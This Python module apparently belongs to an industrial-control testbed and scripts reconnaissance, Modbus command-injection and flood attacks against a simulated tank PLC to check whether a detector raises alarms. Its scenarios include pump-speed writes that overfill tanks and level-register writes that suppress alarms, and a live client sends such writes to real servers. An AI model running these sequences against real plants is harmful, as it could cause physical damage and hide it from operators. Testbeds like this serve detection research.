"""Attacker-side toolkit for the tank testbed.

The scripted campaigns in SCENARIOS re-create a fixed catalog of
reconnaissance, command-injection and flood attacks against the process
segment. Each scenario is a generator that runs on the simulated network
fabric and returns a transcript of what the attacker sent and saw.

The module also carries a small command-line register client modeled on
modpoll. The injection scenarios parse real command lines through it and
reuse its frame factory, and run_modpoll drives the same parser against a
live TCP server for interactive use.
"""

from __future__ import annotations

import itertools
import shlex
import socket
import struct
import time
from dataclasses import dataclass, field
from typing import Callable, Generator, Iterable, Sequence

from . import codec, slave
from .codec import ModbusAdu
from .netsim import Network, ProbeReply
from .sim import Join, Sleep, WaitUntil, spawn

ATTACKER_IP = "192.168.100.2"
TARGET_IP = "10.0.0.5"
MODBUS_PORT = 502

# Quick-scan port list: the usual well-known service ports, extended with
# the control-system ports this network actually uses (502 Modbus, 20000
# DNP3, 47808 BACnet, 17185 the VxWorks debug agent).
QUICK_SCAN_PORTS = (
    7, 9, 13, 21, 22, 23, 25, 26, 37, 53, 79, 80, 81, 88, 106, 110, 111,
    113, 119, 135, 139, 143, 144, 179, 199, 389, 427, 443, 444, 445, 465,
    502, 513, 514, 515, 543, 544, 548, 554, 587, 631, 646, 873, 990, 993,
    995, 1025, 1026, 1027, 1028, 1029, 1110, 1433, 1720, 1723, 1755, 1900,
    2000, 2001, 2049, 2121, 2717, 3000, 3128, 3306, 3389, 3986, 4899, 5000,
    5009, 5051, 5060, 5101, 5190, 5357, 5432, 5631, 5666, 5800, 5900, 6000,
    6001, 6646, 7070, 8000, 8008, 8009, 8080, 8081, 8443, 8888, 9100, 9999,
    10000, 17185, 20000, 32768, 47808, 49152, 49153, 49154, 49155, 49156,
)

HOLDING_CHUNK = 125      # register read ceiling per request
COIL_CHUNK = 2000        # coil read ceiling per request

# A minimal SNMPv1 get-request for sysDescr with community "public"; the
# scan only cares whether anything answers, not about the reply content.
SNMP_PROBE = bytes.fromhex(
    "302602010004067075626c6963a01902044c33a75602010002010030"
    "0b300906052b060102010500"
)


class ModpollError(ValueError):
    """Bad command line handed to the register client."""


_READ_FUNCTION = {
    0: codec.FN_READ_COILS,
    1: codec.FN_READ_DISCRETE_INPUTS,
    3: codec.FN_READ_INPUT_REGISTERS,
    4: codec.FN_READ_HOLDING_REGISTERS,
}


@dataclass(frozen=True)
class ModpollArgs:
    """A parsed register-client command line.

    ``reference`` is the final zero-based protocol address: command lines
    without -0 count from one, and the parser subtracts that off.
    """

    host: str
    port: int = 502
    unit_id: int = 1
    reference: int = 99
    count: int = 1
    reg_type: int = 4
    zero_based: bool = False
    single_poll: bool = False
    mode: str = "tcp"
    poll_ms: int = 1000
    values: tuple[int, ...] = ()

    @property
    def is_write(self) -> bool:
        return bool(self.values)

    @property
    def read_function(self) -> int:
        return _READ_FUNCTION[self.reg_type]


def _int_token(token: str) -> int:
    try:
        return int(token, 0)
    except ValueError:
        raise ModpollError(f"expected a number, got {token!r}") from None


def _is_flag_int(token: str) -> bool:
    return token.isdigit() and int(token) > 0


def parse_modpoll(argv: Sequence[str] | str) -> ModpollArgs:
    """Parse a modpoll-style command line.

    The first bare token is the host and every token after it is a value
    to write; ``--`` switches to that positional mode explicitly so
    negative values survive. Before the host, ``-1`` is the single-poll
    flag; after it, a plain number. ``-l`` takes a poll interval in
    milliseconds but only eats the next token when that token is a
    positive integer, so a bare ``-l`` right before another option keeps
    its default.
    """
    if isinstance(argv, str):
        argv = shlex.split(argv)
    tokens = list(argv)
    if tokens and tokens[0] == "modpoll":
        tokens = tokens[1:]

    host: str | None = None
    port = 502
    unit_id = 1
    reference = 100
    count = 1
    reg_type = 4
    zero_based = False
    single_poll = False
    mode = "tcp"
    poll_ms = 1000
    values: list[int] = []
    positional_only = False

    i = 0
    while i < len(tokens):
        token = tokens[i]
        i += 1
        if token == "--":
            positional_only = True
            continue
        if positional_only or host is not None:
            if host is None:
                host = token
            else:
                values.append(_int_token(token))
            continue
        if token == "-0":
            zero_based = True
        elif token == "-1":
            single_poll = True
        elif token == "-l":
            if i < len(tokens) and _is_flag_int(tokens[i]):
                poll_ms = int(tokens[i])
                i += 1
        elif token in ("-m", "-p", "-a", "-r", "-c", "-t"):
            if i >= len(tokens):
                raise ModpollError(f"option {token} needs an argument")
            arg = tokens[i]
            i += 1
            if token == "-m":
                if arg not in ("tcp", "enc"):
                    raise ModpollError(f"unknown transport: {arg!r}")
                mode = arg
            elif token == "-p":
                port = _int_token(arg)
            elif token == "-a":
                unit_id = _int_token(arg)
            elif token == "-r":
                reference = _int_token(arg)
            elif token == "-c":
                count = _int_token(arg)
            else:
                reg_type = _int_token(arg)
        elif token.startswith("-") and len(token) > 1:
            raise ModpollError(f"unknown option: {token}")
        else:
            host = token

    if host is None:
        raise ModpollError("no host given")
    if reg_type not in _READ_FUNCTION:
        raise ModpollError(f"unknown register type: {reg_type}")
    if not zero_based:
        reference -= 1
    if not 0 <= reference <= 0xFFFF:
        raise ModpollError(f"reference out of range: {reference}")
    if not 0 <= unit_id <= 255:
        raise ModpollError(f"unit id out of range: {unit_id}")
    if not 1 <= count <= COIL_CHUNK:
        raise ModpollError(f"count out of range: {count}")
    for value in values:
        if not -0x8000 <= value <= 0xFFFF:
            raise ModpollError(f"value out of range: {value}")
    if values and reg_type not in (0, 4):
        raise ModpollError("writes need register type 0 or 4")
    return ModpollArgs(host=host, port=port, unit_id=unit_id,
                       reference=reference, count=count, reg_type=reg_type,
                       zero_based=zero_based, single_poll=single_poll,
                       mode=mode, poll_ms=poll_ms, values=tuple(values))


def build_modpoll_request(args: ModpollArgs, transaction_id: int = 1, *,
                          corrupt_crc: bool = False) -> bytes:
    """One request frame for a parsed command line.

    Values write through function 16 (or 15 for coils); without values the
    register type picks the read function. Transport "enc" wraps the PDU
    in a serial frame with a checksum, and corrupt_crc deliberately breaks
    that checksum for flood traffic the server is meant to discard.
    """
    if args.is_write:
        if args.reg_type == 0:
            function = codec.FN_WRITE_MULTIPLE_COILS
            payload = codec.build_write_coils(args.reference,
                                              [bool(v) for v in args.values])
        else:
            function = codec.FN_WRITE_MULTIPLE_REGISTERS
            payload = codec.build_write_registers(
                args.reference, [v & 0xFFFF for v in args.values])
    else:
        function = args.read_function
        payload = codec.build_read(args.reference, args.count)
    if args.mode == "enc":
        frame = codec.encode_rtu(args.unit_id, bytes([function]) + payload)
        if corrupt_crc:
            frame = frame[:-2] + bytes((frame[-2] ^ 0xFF, frame[-1]))
        return frame
    return codec.encode_adu(ModbusAdu(transaction_id & 0xFFFF, args.unit_id,
                                      function, payload))


@dataclass(frozen=True)
class ExchangeRecord:
    """One transcript line: what went out, what came back, when."""

    t: float
    request: bytes
    response: bytes | None
    note: str = ""


def format_transcript(records: Iterable[ExchangeRecord]) -> str:
    lines = []
    for record in records:
        parts = [f"t={record.t:.6f}"]
        if record.request:
            parts.append("req=" + record.request.hex())
            parts.append("resp=" + (record.response.hex()
                                    if record.response else "-"))
        if record.note:
            parts.append(record.note)
        lines.append(" ".join(parts))
    return "".join(line + "\n" for line in lines)


@dataclass
class AttackEnv:
    """Everything a scenario needs to run against the fabric.

    alarm_active and mark_attack_start are hooks for the coordinator: the
    first reports whether the tank alarm is currently up (scenario setup
    phases wait on it), the second declares setup over so the verdict
    window can begin. rate scales flood pacing only; the injection
    scenarios keep their fixed timings because the outcomes depend on
    them.
    """

    net: Network
    attacker_ip: str = ATTACKER_IP
    target_ip: str = TARGET_IP
    target_port: int = MODBUS_PORT
    unit_id: int = 1
    seed: int = 0
    rate: float = 1.0
    alarm_active: Callable[[], bool] = field(default=lambda: False)
    mark_attack_start: Callable[[], None] = field(default=lambda: None)
    personalities: dict | None = None

    def txn_start(self) -> int:
        # Spread transaction ids by seed so reruns with a different seed
        # produce distinct byte streams while staying reproducible.
        return ((self.seed * 40503) & 0x7FFF) + 1


# --- scan primitives -------------------------------------------------------

def ping_sweep(env: AttackEnv, hosts: Iterable[str]):
    """Echo-probe each address; returns the ones that answered."""
    alive = []
    for ip in hosts:
        up = yield env.net.ping(env.attacker_ip, ip)
        if up:
            alive.append(ip)
    return alive


def port_scan(env: AttackEnv, ip: str, ports: Iterable[int]):
    """Half-open TCP scan; returns {port: ProbeReply}."""
    found: dict[int, ProbeReply] = {}
    for port in ports:
        found[port] = yield env.net.probe(env.attacker_ip, ip, port)
    return found


def match_personality(reply: ProbeReply, personalities: dict) -> list[str]:
    """Names whose advertised SYN-ACK shape matches an observed reply."""
    names = []
    for name, personality in sorted(personalities.items()):
        fields = personality.syn_ack_fields()
        if (reply.window == fields["window"]
                and tuple(reply.options) == tuple(fields["options"])
                and reply.ttl == fields["ttl"]
                and reply.df == fields["df"]):
            names.append(name)
    return names


def _function_probe_payload(function: int) -> bytes:
    """A harmless probe body tailored to the function being tested."""
    if function in (1, 2, 3, 4):
        return codec.build_read(0, 1)
    if function in (5, 6):
        return struct.pack(">HH", 0, 0)
    if function == 15:
        return codec.build_write_coils(0, [False])
    if function == 16:
        return codec.build_write_registers(0, [0])
    if function == codec.FN_DIAGNOSTICS:
        return struct.pack(">HH", codec.DIAG_CLEAR_COUNTERS, 0)
    if function == codec.FN_REPORT_SERVER_INFO:
        return b""
    if function == codec.FN_ENCAPSULATED_INTERFACE:
        return b"\x0e\x01\x00"
    return b"\x00\x00\x00\x00"


def function_scan(env: AttackEnv, conn, records: list, txn,
                  functions: Iterable[int] = range(1, 128),
                  timeout: float = 0.5):
    """Probe candidate function codes on an open connection.

    An illegal-function exception marks the code unsupported; any other
    answer, normal or not, means the server implements it. Returns
    {function: "supported" | "unsupported" | "no-answer"}.
    """
    verdicts: dict[int, str] = {}
    for function in functions:
        frame = codec.encode_adu(ModbusAdu(next(txn) & 0xFFFF, env.unit_id,
                                           function,
                                           _function_probe_payload(function)))
        response = yield env.net.request(conn, frame, timeout)
        records.append(ExchangeRecord(env.net.sched.now, frame, response))
        if response is None:
            verdicts[function] = "no-answer"
            continue
        adu = codec.decode_adu(response).adu
        if adu.is_exception and adu.exception_code == codec.EXC_ILLEGAL_FUNCTION:
            verdicts[function] = "unsupported"
        else:
            verdicts[function] = "supported"
    return verdicts


def unit_scan(env: AttackEnv, conn, records: list, txn,
              units: Iterable[int] = range(1, 248), timeout: float = 0.25):
    """Identification probe per unit id; returns the ids that answered."""
    hits = []
    for unit in units:
        frame = codec.encode_adu(ModbusAdu(next(txn) & 0xFFFF, unit,
                                           codec.FN_REPORT_SERVER_INFO, b""))
        response = yield env.net.request(conn, frame, timeout)
        records.append(ExchangeRecord(env.net.sched.now, frame, response))
        if response is not None:
            hits.append(unit)
    return hits


def _read_chunk(env: AttackEnv, conn, records: list, txn, function: int,
                start: int, quantity: int, detail: bool):
    """One chunked read with busy-backoff; returns the reply ADU or None."""
    frame = codec.encode_adu(ModbusAdu(next(txn) & 0xFFFF, env.unit_id,
                                       function,
                                       codec.build_read(start, quantity)))
    for _ in range(200):
        response = yield env.net.request(conn, frame, 1.0)
        if detail:
            records.append(ExchangeRecord(env.net.sched.now, frame, response))
        if response is None:
            return None
        adu = codec.decode_adu(response).adu
        if adu.is_exception and adu.exception_code == codec.EXC_SERVER_BUSY:
            yield Sleep(0.05)
            continue
        return adu
    return None


def memory_scan(env: AttackEnv, records: list, txn, *, detail: bool = True):
    """Sweep every holding register and coil on the target.

    Reads run at the protocol chunk ceiling; the tail chunk deliberately
    overruns the address space and the resulting range exception marks the
    end of memory. Busy replies back the scan off briefly and retry.
    Returns (words, bits, boundaries).
    """
    words: dict[int, int] = {}
    bits: dict[int, bool] = {}
    boundaries: list[tuple[str, int, int]] = []
    conn = yield env.net.open(env.attacker_ip, env.target_ip,
                              env.target_port, timeout=1.0)
    if conn is None:
        records.append(ExchangeRecord(env.net.sched.now, b"", None,
                                      "connect failed"))
        return words, bits, boundaries
    plans = (("holding", codec.FN_READ_HOLDING_REGISTERS, HOLDING_CHUNK),
             ("coil", codec.FN_READ_COILS, COIL_CHUNK))
    for space, function, chunk in plans:
        for start in range(0, 0x10000, chunk):
            adu = yield from _read_chunk(env, conn, records, txn, function,
                                         start, chunk, detail)
            if adu is None or adu.is_exception:
                boundaries.append((space, start, chunk))
                continue
            if function == codec.FN_READ_HOLDING_REGISTERS:
                for offset, value in enumerate(
                        codec.parse_register_response(adu.payload)):
                    words[start + offset] = value
            else:
                for offset, bit in enumerate(
                        codec.parse_bit_response(adu.payload, chunk)):
                    bits[start + offset] = bit
    conn.close()
    records.append(ExchangeRecord(
        env.net.sched.now, b"", None,
        f"memory scan: {len(words)} registers, {len(bits)} coils, "
        f"{len(boundaries)} range faults"))
    return words, bits, boundaries


# --- scenario catalog ------------------------------------------------------

@dataclass(frozen=True)
class AttackScenario:
    code: str
    category: str
    command: str
    expected_alarm: bool
    note: str
    build: Callable[[AttackEnv], Generator]


def _note(records: list, env: AttackEnv, text: str) -> None:
    records.append(ExchangeRecord(env.net.sched.now, b"", None, text))


def _open_plc(env: AttackEnv, records: list, timeout: float = 1.0):
    conn = yield env.net.open(env.attacker_ip, env.target_ip,
                              env.target_port, timeout)
    if conn is None:
        _note(records, env, "connect failed")
    return conn


def _rec01(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    prefix = env.target_ip.rsplit(".", 1)[0]
    alive = yield from ping_sweep(env, (f"{prefix}.{n}" for n in range(1, 255)))
    _note(records, env, f"hosts up: {' '.join(alive) or 'none'}")
    for ip in alive:
        found = yield from port_scan(env, ip, QUICK_SCAN_PORTS)
        open_ports = sorted(p for p, r in found.items() if r.status == "open")
        _note(records, env,
              f"{ip} open: {' '.join(map(str, open_ports)) or 'none'}")
    return records


def _rec02(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    found = yield from port_scan(env, env.target_ip, range(1, 65536))
    open_replies = {p: r for p, r in found.items() if r.status == "open"}
    closed = sum(1 for r in found.values() if r.status == "closed")
    _note(records, env,
          f"{env.target_ip} open: "
          f"{' '.join(map(str, sorted(open_replies))) or 'none'} "
          f"({closed} closed, {len(found) - len(open_replies) - closed} silent)")
    if open_replies and env.personalities:
        reply = open_replies[min(open_replies)]
        names = match_personality(reply, env.personalities)
        _note(records, env,
              "stack fingerprint: " + ("; ".join(names) or "no match"))
    for port in sorted(open_replies):
        conn = yield env.net.open(env.attacker_ip, env.target_ip, port, 0.5)
        if conn is None:
            _note(records, env, f"port {port}: connect failed")
            continue
        yield Sleep(0.3)
        banner = conn.inbox.pop(0) if conn.inbox else None
        conn.close()
        shown = banner.decode("latin-1").strip() if banner else "no banner"
        _note(records, env, f"port {port}: {shown}")
    for port, payload in ((161, SNMP_PROBE), (17185, b"")):
        answer = yield env.net.udp_probe(env.attacker_ip, env.target_ip,
                                         port, payload)
        state = "open" if answer is not None else "silent"
        records.append(ExchangeRecord(env.net.sched.now, payload, answer,
                                      f"udp {port}: {state}"))
    return records


def _rec03(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    txn = itertools.count(env.txn_start())
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    verdicts = yield from function_scan(env, conn, records, txn)
    supported = sorted(f for f, v in verdicts.items() if v == "supported")
    _note(records, env,
          "functions supported: " + " ".join(map(str, supported)))
    hits = yield from unit_scan(env, conn, records, txn)
    _note(records, env, "unit ids answering: " + " ".join(map(str, hits)))
    conn.close()
    return records


def _rec04(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    txn = itertools.count(env.txn_start())
    words, bits, boundaries = yield from memory_scan(env, records, txn)
    levels = {addr: words[addr] for addr in (42210, 42211) if addr in words}
    _note(records, env, f"tank levels seen in dump: {levels}")
    return records


def _ci01(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    header = bytes.fromhex("000100000009")
    bodies = (bytes(9), b"\x11" * 9, b"\xff" * 9,
              bytes.fromhex("4575a4532188ba1ce7"))
    for body in bodies:
        frame = header + body
        response = yield env.net.request(conn, frame, 0.5)
        records.append(ExchangeRecord(env.net.sched.now, frame, response))
    conn.close()
    return records


def _ci02(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    body = bytes.fromhex("01107dd2000102fffb")
    for declared in (0x08, 0x10, 0x00, 0xFF, 0x74):
        frame = struct.pack(">HHH", 1, 0, declared) + body
        response = yield env.net.request(conn, frame, 0.5)
        records.append(ExchangeRecord(env.net.sched.now, frame, response))
    conn.close()
    return records


def _pump_on_command(env: AttackEnv) -> str:
    return f"modpoll -0 -r 32210 {env.target_ip} 5"


def _ci03(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    txn = itertools.count(env.txn_start())
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    for value in (200, -200):
        command = f"modpoll -0 -r 32210 {env.target_ip} -- {value}"
        frame = build_modpoll_request(parse_modpoll(command), next(txn))
        response = yield env.net.request(conn, frame, 1.0)
        records.append(ExchangeRecord(env.net.sched.now, frame, response,
                                      f"pump speed := {value}"))
        yield Sleep(2.0)
    conn.close()
    return records


def _one_write_and_wait(env: AttackEnv, command: str, wait: float):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    txn = itertools.count(env.txn_start())
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    args = parse_modpoll(command)
    frame = build_modpoll_request(args, next(txn))
    response = yield env.net.request(conn, frame, 1.0)
    records.append(ExchangeRecord(env.net.sched.now, frame, response,
                                  f"pump speed := {args.values[0]}"))
    conn.close()
    yield Sleep(wait)
    return records


def _ci04(env: AttackEnv):
    return (yield from _one_write_and_wait(
        env, f"modpoll -0 -r 32210 {env.target_ip} 5", 12.0))


def _ci05(env: AttackEnv):
    # The trailing -1 sits after the host, so it parses as the value to
    # write, not as the single-poll flag.
    return (yield from _one_write_and_wait(
        env, f"modpoll -0 -r 32210 {env.target_ip} -1", 60.0))


def _ci06(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    txn = itertools.count(env.txn_start())
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    frame = build_modpoll_request(parse_modpoll(_pump_on_command(env)),
                                  next(txn))
    response = yield env.net.request(conn, frame, 1.0)
    records.append(ExchangeRecord(env.net.sched.now, frame, response,
                                  "setup: pump on"))
    floods = (parse_modpoll(f"modpoll -0 -1 -r 42212 {env.target_ip} 120"),
              parse_modpoll(f"modpoll -0 -1 -r 42214 {env.target_ip} 120"))
    start = env.net.sched.now
    slot = 0
    while env.net.sched.now < start + 12.0:
        for args in floods:
            frame = build_modpoll_request(args, next(txn))
            yield env.net.send(conn, frame)
            records.append(ExchangeRecord(env.net.sched.now, frame, None,
                                          "sent"))
        slot += 1
        yield WaitUntil(start + 0.05 * slot)
    conn.close()
    return records


def _ci07(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    txn = itertools.count(env.txn_start())
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    nudges = (parse_modpoll(f"modpoll -0 -1 -r 32210 {env.target_ip} 2"),
              parse_modpoll(f"modpoll -0 -1 -r 32210 {env.target_ip} -- -2"))
    for _ in range(10):
        for args in nudges:
            frame = build_modpoll_request(args, next(txn))
            response = yield env.net.request(conn, frame, 1.0)
            records.append(ExchangeRecord(env.net.sched.now, frame, response,
                                          f"pump speed := {args.values[0]}"))
            yield Sleep(1.0)
    conn.close()
    return records


def _level_mask(env: AttackEnv, value: int):
    """Pre-raise the full alarm, then pin both level registers to value."""
    records: list[ExchangeRecord] = []
    txn = itertools.count(env.txn_start())
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    frame = build_modpoll_request(parse_modpoll(_pump_on_command(env)),
                                  next(txn))
    response = yield env.net.request(conn, frame, 1.0)
    records.append(ExchangeRecord(env.net.sched.now, frame, response,
                                  "setup: pump on"))
    waited = 0.0
    while not env.alarm_active() and waited < 120.0:
        yield Sleep(0.5)
        waited += 0.5
    up = "up" if env.alarm_active() else "never came up"
    _note(records, env, f"setup: full alarm {up} after {waited:.1f}s")
    env.mark_attack_start()
    joiner = "-- " if value < 0 else ""
    masks = (parse_modpoll(
                 f"modpoll -0 -1 -r 42210 {env.target_ip} {joiner}{value}"),
             parse_modpoll(
                 f"modpoll -0 -1 -r 42211 {env.target_ip} {joiner}{value}"))
    start = env.net.sched.now
    slot = 0
    while env.net.sched.now < start + 10.0:
        yield env.net.send(conn, build_modpoll_request(masks[0], next(txn)))
        yield Sleep(0.003)
        yield env.net.send(conn, build_modpoll_request(masks[1], next(txn)))
        slot += 1
        yield WaitUntil(start + 0.01 * slot)
    _note(records, env, f"mask writes sent: {2 * slot}")
    conn.close()
    return records


def _ci08(env: AttackEnv):
    return (yield from _level_mask(env, 50))


def _ci09(env: AttackEnv):
    return (yield from _level_mask(env, -50))


def _dos01(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()

    def worker(index: int):
        txn = itertools.count(env.txn_start() + 1000 * index)
        own: list[ExchangeRecord] = []
        for _ in range(2):
            yield from memory_scan(env, own, txn, detail=False)
        return own

    procs = [spawn(env.net.sched, worker(i)) for i in range(8)]
    for index, proc in enumerate(procs):
        yield Join(proc)
        for record in proc.result:
            records.append(ExchangeRecord(record.t, record.request,
                                          record.response,
                                          f"worker {index}: {record.note}"))
    return records


def _dos02(env: AttackEnv):
    records: list[ExchangeRecord] = []
    env.mark_attack_start()
    conn = yield from _open_plc(env, records)
    if conn is None:
        return records
    args = parse_modpoll(f"modpoll -m enc -t 3 -l -0 -r 32210 -l 1 "
                         f"{env.target_ip}")
    frame = build_modpoll_request(args, corrupt_crc=True)
    spacing = 0.0006 / max(env.rate, 1e-6)
    start = env.net.sched.now
    for k in range(10_000):
        yield env.net.send(conn, frame)
        yield WaitUntil(start + spacing * (k + 1))
    records.append(ExchangeRecord(env.net.sched.now, frame, None,
                                  "sent 10000 frames with broken checksums"))
    conn.close()
    return records


SCENARIOS: dict[str, AttackScenario] = {s.code: s for s in (
    AttackScenario(
        "REC-01", "reconnaissance", "nmap -T4 -F 10.0.0.0/24", False,
        "ping sweep of the process segment, then a quick port scan of "
        "every answering host", _rec01),
    AttackScenario(
        "REC-02", "reconnaissance", "nmap -T4 -A -v 10.0.0.5", False,
        "full port sweep of one host with stack fingerprinting, banner "
        "grabs and UDP service probes", _rec02),
    AttackScenario(
        "REC-03", "reconnaissance",
        "nmap --script modbus-discover.nse "
        "--script-args='modbus-discover.aggressive=true' -p 502 10.0.0.5",
        False, "function code scan plus unit id sweep", _rec03),
    AttackScenario(
        "CI-01", "command-injection",
        "raw frames, correct length: bodies all-00, all-11, all-FF, random",
        False,
        "unit and function fields land on nonsense values; only the "
        "all-11 body names a function the detector knows", _ci01),
    AttackScenario(
        "CI-02", "command-injection",
        "raw write frames with declared lengths 08 10 00 FF 74", False,
        "the embedded pump write never executes because the length field "
        "disagrees with the body", _ci02),
    AttackScenario(
        "CI-03", "command-injection",
        "modpoll -0 -r 32210 10.0.0.5 -- 200 ; then -- -200", True,
        "speed far out of range fills a tank almost instantly", _ci03),
    AttackScenario(
        "CI-04", "command-injection",
        "modpoll -0 -r 32210 10.0.0.5 5", True,
        "ordinary speed with nobody stopping the pump", _ci04),
    AttackScenario(
        "CI-05", "command-injection",
        "modpoll -0 -r 32210 10.0.0.5 -1", True,
        "slow reverse flow still overfills the source tank eventually",
        _ci05),
    AttackScenario(
        "CI-06", "command-injection",
        "loop: modpoll -0 -1 -r 42212 10.0.0.5 120 ; "
        "modpoll -0 -1 -r 42214 10.0.0.5 120", True,
        "injected limits never survive to evaluation because the logic "
        "rewrites them every scan", _ci06),
    AttackScenario(
        "CI-07", "command-injection",
        "loop: modpoll -0 -1 -r 32210 10.0.0.5 2 ; sleep 1 ; "
        "modpoll -0 -1 -r 32210 10.0.0.5 -- -2 ; sleep 1", False,
        "small alternating nudges keep the pump busy while the level "
        "stays under the warning band", _ci07),
    AttackScenario(
        "CI-08", "command-injection",
        "loop: modpoll -0 -1 -r 42210 10.0.0.5 50 ; "
        "modpoll -0 -1 -r 42211 10.0.0.5 50", False,
        "with the alarm already up, pinning both level registers mid-band "
        "suppresses any fresh alarm edge", _ci08),
    AttackScenario(
        "CI-09", "command-injection",
        "loop: modpoll -0 -1 -r 42210 10.0.0.5 -- -50 ; "
        "modpoll -0 -1 -r 42211 10.0.0.5 -- -50", False,
        "negative levels read as signed words and never reach the full "
        "threshold", _ci09),
    AttackScenario(
        "REC-04", "reconnaissance", "scan.sh", False,
        "full register and coil dump in maximum-size chunks", _rec04),
    AttackScenario(
        "DOS-01", "denial-of-service",
        "loop: scan.sh > /dev/null &", False,
        "eight parallel dump workers keep the request queue loaded; "
        "legitimate polls feel the latency", _dos01),
    AttackScenario(
        "DOS-02", "denial-of-service",
        "for i in 1..10000: modpoll -m enc -t 3 -l -0 -r 32210 -l 1 "
        "10.0.0.5", False,
        "serial-framed floods with broken checksums are discarded after "
        "the server has paid to checksum them", _dos02),
)}


def iter_scenarios() -> list[AttackScenario]:
    return [SCENARIOS[code] for code in sorted(SCENARIOS)]


# --- live TCP client -------------------------------------------------------

def run_modpoll(argv: Sequence[str] | str, *, max_polls: int = 1,
                transcript: list | None = None) -> list[ExchangeRecord]:
    """Run a command line against a real TCP server.

    Writes go out once; reads poll max_polls times at the configured
    interval. Returns the exchange records (appended to ``transcript``
    when one is passed in).
    """
    args = parse_modpoll(argv)
    records = transcript if transcript is not None else []
    rounds = 1 if args.is_write or args.single_poll else max_polls
    txn = itertools.count(1)
    with socket.create_connection((args.host, args.port), timeout=5.0) as sock:
        for round_no in range(rounds):
            frame = build_modpoll_request(args, next(txn))
            try:
                if args.mode == "enc":
                    sock.settimeout(2.0)
                    sock.sendall(frame)
                    reply = sock.recv(260) or None
                else:
                    reply = slave.exchange(sock, frame, timeout=2.0)
            except (TimeoutError, ConnectionError):
                reply = None
            records.append(ExchangeRecord(time.time(), frame, reply))
            if round_no + 1 < rounds:
                time.sleep(args.poll_ms / 1000.0)
    return records
